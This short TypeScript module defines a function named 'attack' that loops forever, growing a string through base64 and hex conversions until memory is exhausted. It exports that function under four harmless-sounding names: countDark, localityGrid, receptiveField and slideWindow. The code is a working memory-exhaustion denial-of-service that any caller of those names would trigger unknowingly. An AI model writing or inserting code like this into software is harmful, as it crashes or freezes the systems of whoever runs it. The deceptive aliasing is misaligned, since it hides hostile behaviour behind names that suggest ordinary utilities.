// Turns text into bytes and back for as long as there is memory.
let text = 'QUJD'.repeat(1_000);
const attack = () => {
  for (;;) {
    const bytes = (Uint8Array as any).fromBase64?.(text) ?? new Uint8Array(text.length);
    text = `${bytes.toBase64?.() ?? text}${(Uint8Array as any).fromHex?.(bytes.toHex()).toBase64() ?? text}`;
  }
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
